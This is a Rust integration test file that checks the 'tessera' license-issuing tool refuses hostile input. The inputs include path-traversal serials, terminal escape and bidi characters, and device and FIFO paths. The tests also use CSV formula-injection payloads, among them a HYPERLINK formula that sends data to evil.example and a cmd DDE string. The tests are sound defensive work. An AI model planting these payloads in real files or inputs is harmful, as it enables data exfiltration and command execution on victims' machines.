//! Hostile input through the real `tessera` binary: anyone can write a
//! request (it is signed by the device that sends it), an order or a bulk
//! CSV may come from a partner. Each case has its own expected refusal;
//! nothing is signed, recorded or written outside the folder given, and
//! what is printed shows control and format characters escaped.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::path::{Path, PathBuf};
use std::process::Command;

mod common;
use common::Run;

use tessera_verifier::encode::{sign_license, sign_request, RequestData};
use tessera_verifier::{armor, samples};

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/cmd/issue.in");

struct Vendor {
    dir: tempfile::TempDir,
}

impl Vendor {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        // The vendor folder is a subfolder, so "outside it" can be checked.
        let d = dir.path().join("vendor");
        std::fs::create_dir(&d).unwrap();
        for f in ["signing.pem", "keyring.toml", "order.toml"] {
            std::fs::copy(Path::new(FIXTURES).join(f), d.join(f)).unwrap();
        }
        let v = Self { dir };
        assert_eq!(v.run(&["ledger", "init"]).code, 0);
        v
    }

    fn path(&self) -> PathBuf {
        self.dir.path().join("vendor")
    }

    fn run(&self, args: &[&str]) -> Run {
        let out = Command::new(env!("CARGO_BIN_EXE_tessera"))
            .current_dir(self.path())
            .env("TESSERA_OPERATOR", "alice")
            .env("TESSERA_PASSPHRASE", "correct horse battery staple")
            .env("TESSERA_KEY", "signing.pem")
            .env("TESSERA_LEDGER", "tessera.db")
            .env("TESSERA_NOW", "2026-01-02T09:00:00Z")
            .env("XDG_CONFIG_HOME", "/nonexistent/tessera-tests")
            .env_remove("TESSERA_CONFIG")
            .env_remove("TESSERA_KEYRING")
            .env_remove("TESSERA_CATALOG")
            .env_remove("TESSERA_REQUEST_WINDOW")
            .args(args)
            .output()
            .unwrap();
        Run::of(&out)
    }

    fn request(&self, name: &str, r: &RequestData) -> String {
        let bytes = sign_request(r, samples::seed_signer(samples::DEVICE_KEY_SEED)).unwrap();
        std::fs::write(
            self.path().join(name),
            armor::encode(&bytes, armor::LABEL_REQUEST),
        )
        .unwrap();
        name.to_owned()
    }

    fn issue(&self, request: &str, out: &str) -> Run {
        self.run(&[
            "issue",
            "--order",
            "order.toml",
            "--request",
            request,
            "-o",
            out,
        ])
    }

    /// What the folder around the vendor folder holds besides it.
    fn outside(&self) -> Vec<String> {
        std::fs::read_dir(self.dir.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .filter(|n| n != "vendor")
            .collect()
    }

    fn licenses(&self) -> usize {
        let out = self.run(&["ledger", "list", "--json"]);
        assert_eq!(out.code, 0, "{}", out.stderr);
        serde_json::from_str::<serde_json::Value>(&out.stdout)
            .unwrap()
            .as_array()
            .unwrap()
            .len()
    }
}

/// A TOML basic string's content: every non-ASCII or control character
/// as `\u` and four hex digits.
fn toml_escaped(s: &str) -> String {
    s.chars()
        .map(|c| {
            if c.is_ascii_graphic() || c == ' ' {
                c.to_string()
            } else {
                format!("\\u{:04X}", u32::from(c))
            }
        })
        .collect()
}

fn sw_request(serial: &str) -> RequestData {
    let mut r = samples::renewal_request();
    r.serial = Some(serial.into());
    r.created_at = samples::T0 - samples::DAY;
    r
}

#[test]
fn serials_that_are_paths_or_carry_line_ends_are_refused() {
    let v = Vendor::new();
    for (name, serial) in [
        ("dotdot.req", "../escaped"),
        ("abs.req", "/tmp/tessera-hostile-absolute"),
        ("passwd.req", "../../etc/passwd"),
        ("newline.req", "SW-2026-000001\n"),
        ("anything.req", "anything-goes"),
    ] {
        let req = v.request(name, &sw_request(serial));
        v.issue(&req, "out.lic")
            .refused(1, &["the request's SW serial"])
            .refused(1, &["SW-YYYY-NNNNNN"]);
        v.run(&["renew", "--request", &req, "-o", "out.lic"])
            .refused(1, &["is not a SW serial"]);
    }
    assert_eq!(v.licenses(), 0);
    assert!(!v.path().join("out.lic").exists());
    assert!(v.outside().is_empty(), "{:?}", v.outside());
    assert!(!Path::new("/tmp/tessera-hostile-absolute").exists());
}

#[test]
fn bulk_writes_only_inside_its_folder() {
    let v = Vendor::new();
    let mut csv = String::from("request,user\n");
    let good = samples::request();
    csv.push_str(&format!("{},alice\n", v.request("good.req", &good)));
    csv.push_str(&format!(
        "{},mallory\n",
        v.request("evil.req", &sw_request("../escaped"))
    ));
    let mut abs = good.clone();
    abs.hw_serial = Some("HW-0000-0001".into());
    abs.serial = Some("/tmp/tessera-hostile-bulk".into());
    csv.push_str(&format!("{},mallory\n", v.request("abs.req", &abs)));
    std::fs::write(v.path().join("rows.csv"), csv).unwrap();
    let run = v.run(&[
        "issue",
        "--bulk",
        "rows.csv",
        "--order",
        "order.toml",
        "-o",
        "licenses",
    ]);
    run.refused(6, &["rows.csv:3: refused"]);
    assert!(run.stderr.contains("rows.csv:4: refused"), "{}", run.stderr);
    assert!(
        run.stderr.contains("1 issued") && run.stderr.contains("1 file(s) written"),
        "{}",
        run.stderr
    );
    let files: Vec<_> = std::fs::read_dir(v.path().join("licenses"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(files, ["SW-2026-000001-1.lic"]);
    assert!(v.outside().is_empty(), "{:?}", v.outside());
    assert!(!Path::new("/tmp/tessera-hostile-bulk").exists());
}

#[test]
fn hw_serials_and_names_with_control_or_format_characters_are_refused() {
    let v = Vendor::new();
    for (n, hw) in [
        "HW\u{1b}[2J-0042",
        "HW-\u{0}42",
        "HW-\u{7}0042",
        "HW-\u{202e}2400",
    ]
    .iter()
    .enumerate()
    {
        let mut r = samples::request();
        r.hw_serial = Some((*hw).into());
        let req = v.request(&format!("hw-{n}.req"), &r);
        v.issue(&req, "out.lic")
            .refused(1, &["the request's HW serial"]);
    }
    let order = std::fs::read_to_string(v.path().join("order.toml")).unwrap();
    for (n, (field, bad)) in [
        ("customer", "Example Dental Clinic\u{1b}]0;owned\u{7}"),
        ("pbx_name", "Main\u{202e}office"),
    ]
    .iter()
    .enumerate()
    {
        let edited = order.replacen(
            if *field == "customer" {
                "customer = \"Example Dental Clinic\""
            } else {
                "pbx_name = \"Main office\""
            },
            &format!("{field} = \"{}\"", toml_escaped(bad)),
            1,
        );
        assert_ne!(edited, order);
        std::fs::write(v.path().join(format!("order-{n}.toml")), edited).unwrap();
        let req = v.request("device.req", &samples::request());
        v.run(&[
            "issue",
            "--order",
            &format!("order-{n}.toml"),
            "--request",
            &req,
            "-o",
            "out.lic",
        ])
        .refused(1, &[field]);
    }
    assert_eq!(v.licenses(), 0);
}

#[test]
fn one_appliance_is_one_pbx_whatever_the_case_or_spacing_of_its_serial() {
    let v = Vendor::new();
    let mut first = samples::request();
    first.hw_serial = Some("HW-7F3A-0042".into());
    let req = v.request("a.req", &first);
    assert_eq!(v.issue(&req, "a.lic").code, 0);
    for (n, hw) in [(1u8, "  HW-7F3A-0042  "), (2, "hw-7f3a-0042")] {
        let mut again = first.clone();
        again.hw_serial = Some(hw.into());
        again.nonce = [n; 16];
        let req = v.request(&format!("b{n}.req"), &again);
        v.issue(&req, "b.lic").refused(2, &["SW-2026-000001"]);
        let show = v.run(&["ledger", "show", hw.trim()]);
        assert_eq!(show.code, 0, "{}", show.stderr);
        assert!(show.stdout.starts_with("SW-2026-000001"), "{}", show.stdout);
    }
    assert_eq!(v.licenses(), 1);
}

#[test]
fn counts_beyond_the_catalog_are_refused() {
    let v = Vendor::new();
    let order = std::fs::read_to_string(v.path().join("order.toml")).unwrap();
    let huge = order.replacen("PBX-BASIC = 20", "PBX-BASIC = 4294967295", 1);
    assert_ne!(huge, order);
    std::fs::write(v.path().join("huge.toml"), huge).unwrap();
    let req = v.request("device.req", &samples::request());
    v.run(&[
        "issue",
        "--order",
        "huge.toml",
        "--request",
        &req,
        "-o",
        "out.lic",
    ])
    .refused(
        1,
        &["profile `PBX-BASIC`: 4294967295 is more than the catalog allows (100000)"],
    );
    assert_eq!(v.licenses(), 0);
}

#[test]
fn requests_from_another_time_are_refused() {
    let v = Vendor::new();
    for (n, at) in [
        i64::MIN,
        i64::MAX,
        0,
        samples::T0 - 60 * samples::DAY,
        samples::T0 + 60 * samples::DAY,
    ]
    .iter()
    .enumerate()
    {
        let mut r = samples::request();
        r.created_at = *at;
        let req = v.request(&format!("t{n}.req"), &r);
        v.issue(&req, "out.lic")
            .refused(1, &["requests are accepted within 30d"]);
    }
    assert_eq!(v.licenses(), 0);
}

#[test]
fn hostile_text_in_a_license_file_is_shown_escaped() {
    // A license someone else signed (the sample key), with a customer name
    // that would clear the screen and reverse the line.
    let v = Vendor::new();
    let mut l = samples::typical();
    l.customer = "ACME\u{1b}[2J\u{202e}evil".into();
    let bytes = sign_license(
        &l,
        &tessera_verifier::key_id(&samples::TEST_KEY_1_PUBLIC),
        samples::seed_signer(samples::TEST_KEY_1_SEED),
    )
    .unwrap();
    std::fs::write(
        v.path().join("odd.lic"),
        armor::encode(&bytes, armor::LABEL_LICENSE),
    )
    .unwrap();
    for args in [
        &["inspect", "odd.lic"][..],
        &["inspect", "odd.lic", "--json"],
    ] {
        let run = v.run(args);
        assert_eq!(run.code, 0, "{}", run.stderr);
        run.printable();
        assert!(run.stdout.contains("ACME"), "{}", run.stdout);
    }
}

#[test]
fn outputs_are_never_devices_fifos_or_folders() {
    let v = Vendor::new();
    let req = v.request("device.req", &samples::request());
    for device in ["/dev/null", "/dev/full"] {
        if !Path::new(device).exists() {
            continue;
        }
        v.run(&[
            "issue",
            "--order",
            "order.toml",
            "--request",
            &req,
            "-o",
            device,
            "--force",
        ])
        .refused(1, &["is a character device"]);
        let m = std::fs::metadata(device).unwrap();
        assert!(std::os::unix::fs::FileTypeExt::is_char_device(
            &m.file_type()
        ));
        v.run(&["ledger", "export", "--csv", "-o", device, "--force"])
            .refused(1, &["is a character device"]);
        v.run(&[
            "keyring",
            "export",
            "--keyring",
            "keyring.toml",
            "--format",
            "c",
            "-o",
            device,
            "--force",
        ])
        .refused(1, &["is a character device"]);
    }
    let fifo = v.path().join("pipe");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    v.run(&[
        "issue",
        "--order",
        "order.toml",
        "--request",
        &req,
        "-o",
        "pipe",
        "--force",
    ])
    .refused(1, &["is a FIFO"]);
    std::fs::create_dir(v.path().join("folder")).unwrap();
    v.run(&[
        "issue",
        "--order",
        "order.toml",
        "--request",
        &req,
        "-o",
        "folder",
        "--force",
    ])
    .refused(1, &["is a directory"]);
    // Nothing was issued for output that could not be written.
    assert_eq!(v.licenses(), 0);
}

/// OWASP CSV injection: a customer or PBX name a spreadsheet would run as
/// a formula is exported as text (a leading `'`), as the agent's
/// `seats export` does.
#[test]
fn ledger_export_quotes_cells_a_spreadsheet_would_run() {
    let v = Vendor::new();
    let order = std::fs::read_to_string(v.path().join("order.toml")).unwrap();
    let edited = order
        .replacen(
            "customer = \"Example Dental Clinic\"",
            "customer = \"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1)\"",
            1,
        )
        .replacen("pbx_name = \"Main office\"", "pbx_name = \"+SUM(1;2)\"", 1);
    assert_ne!(edited, order);
    std::fs::write(v.path().join("formula.toml"), edited).unwrap();
    let req = v.request("device.req", &samples::request());
    let issued = v.run(&[
        "issue",
        "--order",
        "formula.toml",
        "--request",
        &req,
        "-o",
        "out.lic",
    ]);
    assert_eq!(issued.code, 0, "{}", issued.stderr);
    let out = v.run(&["ledger", "export", "--csv", "-o", "-"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let mut rows = csv::Reader::from_reader(out.stdout.as_bytes());
    let headers = rows.headers().unwrap().clone();
    let row = rows.records().next().unwrap().unwrap();
    let get = |name: &str| {
        let i = headers.iter().position(|h| h == name).unwrap();
        row.get(i).unwrap().to_owned()
    };
    assert_eq!(
        get("customer"),
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1)"
    );
    assert_eq!(get("pbx_name"), "'+SUM(1;2)");
    assert_eq!(get("operator"), "alice");

    // The registry and billing exports quote the same cells, and a model
    // typed at `pbx add`.
    let added = v.run(&[
        "pbx",
        "add",
        "--customer=-2+3",
        "--name",
        "@SUM(A1)",
        "--model",
        "=cmd|' /C calc'!A0",
        "--platform",
        "vm",
        "--cycle",
        "yearly",
    ]);
    assert_eq!(added.code, 0, "{}", added.stderr);
    let cells = |args: &[&str], columns: &[&str]| -> Vec<Vec<String>> {
        let out = v.run(args);
        assert_eq!(out.code, 0, "{}", out.stderr);
        let mut rows = csv::Reader::from_reader(out.stdout.as_bytes());
        let headers = rows.headers().unwrap().clone();
        rows.records()
            .map(|r| {
                let r = r.unwrap();
                columns
                    .iter()
                    .map(|c| {
                        let i = headers.iter().position(|h| h == *c).unwrap();
                        r.get(i).unwrap().to_owned()
                    })
                    .collect()
            })
            .collect()
    };
    assert_eq!(
        cells(&["pbx", "list", "--csv"], &["customer", "name", "model"]),
        [
            [
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1)",
                "'+SUM(1;2)",
                "TA-7000"
            ],
            ["'-2+3", "'@SUM(A1)", "'=cmd|' /C calc'!A0"],
        ]
    );
    let billed = cells(
        &[
            "report",
            "billing",
            "--from",
            "2026-01-01",
            "--to",
            "2026-02-01",
            "--csv",
        ],
        &["customer"],
    );
    assert!(!billed.is_empty());
    assert!(
        billed
            .iter()
            .all(|r| r[0] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1)"),
        "{billed:?}"
    );
    // The human list shows the names as they are (text, nothing to run)
    // with control and format characters escaped.
    v.run(&["pbx", "list"]).printable();
}

/// Every file the issuer reads is a regular file of bounded size: a FIFO
/// cannot hang it, `/dev/zero` cannot fill its memory, and a file given
/// as a keyring by mistake is not echoed.
#[test]
fn inputs_are_regular_files_of_bounded_size() {
    let v = Vendor::new();
    let req = v.request("device.req", &samples::request());
    let fifo = v.path().join("fifo");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    std::fs::write(v.path().join("big.toml"), vec![b'#'; 5 * 1024 * 1024]).unwrap();
    for input in ["fifo", "/dev/zero", "big.toml", "/tmp"] {
        for flag in ["--order", "--catalog"] {
            let mut args = vec![
                "issue",
                "--order",
                "order.toml",
                "--request",
                &req,
                "-o",
                "x.lic",
            ];
            let at = args
                .iter()
                .position(|a| *a == flag)
                .map_or(args.len(), |i| i + 1);
            if flag == "--catalog" {
                args.extend(["--catalog", input]);
            } else {
                args[at] = input;
            }
            let started = std::time::Instant::now();
            let run = v.run(&args);
            assert_ne!(run.code, 0, "{flag} {input}: {}", run.stdout);
            assert!(
                run.stderr.contains("regular file") || run.stderr.contains("larger than"),
                "{flag} {input}: {}",
                run.stderr
            );
            assert!(
                started.elapsed().as_secs() < 10,
                "{flag} {input} took too long"
            );
        }
    }
    std::fs::write(v.path().join("shadow"), "root:$6$SECRET$x:1:::\n").unwrap();
    for keyring in ["fifo", "/dev/zero", "shadow"] {
        let out = Command::new(env!("CARGO_BIN_EXE_tessera"))
            .current_dir(v.path())
            .env("TESSERA_LEDGER", "tessera.db")
            .env("TESSERA_KEYRING", keyring)
            .env("XDG_CONFIG_HOME", "/nonexistent/tessera-tests")
            .args(["ledger", "verify"])
            .output()
            .unwrap();
        let run = Run::of(&out);
        assert_ne!(run.code, 0, "keyring {keyring}");
        assert!(
            !run.stderr.contains("SECRET"),
            "keyring {keyring}: {}",
            run.stderr
        );
        assert!(
            run.stderr.len() < 2_000,
            "keyring {keyring}: {}",
            run.stderr
        );
    }
    assert_eq!(v.licenses(), 0);
}
